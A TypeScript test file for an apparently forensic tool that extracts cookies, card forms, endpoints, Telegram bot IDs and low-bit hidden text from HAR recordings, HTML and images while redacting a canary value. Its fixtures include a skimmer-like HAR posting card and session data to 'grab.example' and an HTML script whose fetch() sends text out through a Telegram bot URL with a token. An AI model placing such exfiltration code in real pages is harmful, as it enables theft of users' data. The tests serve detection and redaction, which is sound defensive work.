import { NO_TRACES } from '@fap/shared/evidence/file-traces.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { makePdf } from '../testing/fixtures.ts';
import { asBmp, asPng, drawPhotograph, hideInLowBits } from '../testing/plant.ts';
import { openReadingBench, type ReadingBench } from '../testing/reading-bench.ts';
import { findHiddenData } from './find-hidden-data.ts';
import { traceFile } from './trace-file.ts';

let bench: ReadingBench;
beforeAll(async () => {
  bench = await openReadingBench();
});
afterAll(() => bench.close());

const CANARY = 'ottiline-quarrelstone';
const HAR = {
  log: {
    entries: [
      {
        request: {
          method: 'POST',
          url: `https://grab.example/pay?mail=${CANARY}#${CANARY}`,
          cookies: [{ name: 'session', value: CANARY }],
          headers: [{ name: 'Cookie', value: `lang=${CANARY}; theme=dark` }],
          postData: { params: [{ name: 'cardNumber', value: CANARY }] },
        },
        response: { status: 200, headers: [{ name: 'set-cookie', value: `_ga=${CANARY}; Path=/\n_gid=1` }] },
      },
      {
        request: { method: 'GET', url: 'https://ads.test/p.gif' },
        response: { status: 200, cookies: [{ name: 'IDE' }] },
      },
    ],
  },
};

test('a recorded visit gives cookies by name, forms and addresses, and never a value', async () => {
  const { traces } = await bench.read('visit.har', JSON.stringify(HAR));
  expect(traces).toEqual({
    ...NO_TRACES,
    cookies: [
      { name: 'session', site: 'grab.example', isThirdParty: false },
      { name: 'lang', site: 'grab.example', isThirdParty: false },
      { name: 'theme', site: 'grab.example', isThirdParty: false },
      { name: '_ga', site: 'grab.example', isThirdParty: false },
      { name: '_gid', site: 'grab.example', isThirdParty: false },
      { name: 'IDE', site: 'ads.test', isThirdParty: true },
    ],
    forms: [{ asks: ['card'], host: 'grab.example' }],
    endpoints: ['https://grab.example/pay'],
  });
  expect(JSON.stringify(traces)).not.toContain(CANARY);
});

test('a bot’s token is kept as its public number, wherever it stands', async () => {
  const token = '5912837465:AAHk3jd8s7Hs6dk2Jd8sk3Hs7dk2Js8dHsK';
  const page = `<script>const t="${token}"; fetch("https://api.telegram.org/bot${token}/sendMessage?text=${CANARY}")</script>`;
  const { traces } = await bench.read('page.html', page);
  expect(traces).toMatchObject({
    bots: ['5912837465'],
    endpoints: ['https://api.telegram.org/bot/sendMessage'],
  });
  expect(JSON.stringify(traces)).not.toMatch(/AAHk3/u);
});

test('words in low bits are told of, not read out', async () => {
  const words = Buffer.from(`Meet ${CANARY} at the old pier tonight and bring the key.`);
  const order = { channels: [0, 1, 2], isHighFirst: true };
  const { traces } = await bench.read(
    'a.png',
    await asPng(hideInLowBits(await drawPhotograph(1), words, order)),
  );
  expect(traces?.hidden).toEqual([{ way: 'words-in-low-bits', what: 'text', bytes: null }]);
  expect(JSON.stringify(traces)).not.toContain(CANARY);
});

test.each([
  ['visit.har', '{"log":', 'application/json'],
  ['a.png', '\x89PNG\r\n\x1a\n', 'image/png'],
])('bytes of %s that cannot be looked through are called damaged', async (fileName, content, mimeType) => {
  const bytes = Buffer.from(content, 'latin1');
  expect(await traceFile(bytes, { fileName, mimeType }, {})).toEqual({ ...NO_TRACES, isDamaged: true });
});

test('a bitmap of a width that cannot be is not said to hide anything', async () => {
  const bitmap = asBmp(await drawPhotograph(3));
  bitmap.writeInt32LE(-320, 18);
  expect(findHiddenData(bitmap, 'image/bmp')).toEqual([]);
});

test('every beginning and every flipped byte of a file ends', async () => {
  const files = [
    { fileName: 'a.pdf', mimeType: 'application/pdf', bytes: await makePdf(['A letter']) },
    { fileName: 'a.png', mimeType: 'image/png', bytes: await asPng(await drawPhotograph(2)) },
  ];
  for (const { bytes, ...task } of files) {
    for (let cut = 0; cut < 40; cut += 1) {
      const length = Math.floor((bytes.length * cut) / 40);
      const flipped = Buffer.from(bytes);
      flipped[length] = (flipped[length] ?? 0) ^ 0xff;
      for (const damaged of [bytes.subarray(0, length), flipped])
        expect(Object.keys(await traceFile(damaged, task, {}))).toEqual(Object.keys(NO_TRACES));
    }
  }
});
